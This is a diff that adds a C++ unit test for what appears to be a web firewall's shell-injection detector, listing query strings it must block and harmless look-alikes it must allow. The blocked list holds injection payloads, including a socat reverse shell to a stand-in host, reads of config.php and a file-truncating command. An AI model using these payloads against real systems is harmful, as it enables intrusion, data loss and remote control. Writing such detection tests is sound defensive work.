@@ -599,6 +599,24 @@ TEST(Shell, FilesAmongWords) {
     EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, kBody, false, "v"))) << text;
 }
 
+// Directly behind a separator, a command and the files that it is given are no sentence, whatever else its
+// name is.
+TEST(Shell, FilesDirectlyBehindSeparators) {
+  const Analyzer& analyzer = analyzer_named("cmd");
+  for (const std::string_view text :
+       {";diff config.php x", ";gzip config.php", ";join config.php config.php", ";touch x.php",
+        ";tr a b<config.php", ";node x.js", ";java x.jar", ";lua5.2 x.lua", "x&&install config.php x.txt",
+        ";socat tcp:evil.example:99 exec:sh", ";erb config.php", ";cpp-12 config.php",
+        ";vim.basic config.php", ";x86_64-linux-gnu-strings config.php", ";: >config.php",
+        ";for((;;)){ id;break;}", ";for ((i=0;i<1;i++)) { cat config.php;}", "1&lt;cat config.php"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
+  for (const std::string_view text :
+       {"; join us", "; look here", "; touch base", "; install x", "; node x", "a; : >b", ":; :)",
+        "Node;node.js", "see a.txt; diff b.txt", "x; for ((a);;) { top = 5; }", "R&amp;D;id=3",
+        "AT&amp;T;cat", "&nbsp;id", "R&amp;top stories"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kQuery, false, "v"))) << text;
+}
+
 // What other readings of a sign, a line, a name or a value leave to a shell. Each was run by bash or dash.
 TEST(Shell, OtherReadingsLeaveNothingOut) {
   const Analyzer& analyzer = analyzer_named("cmd");
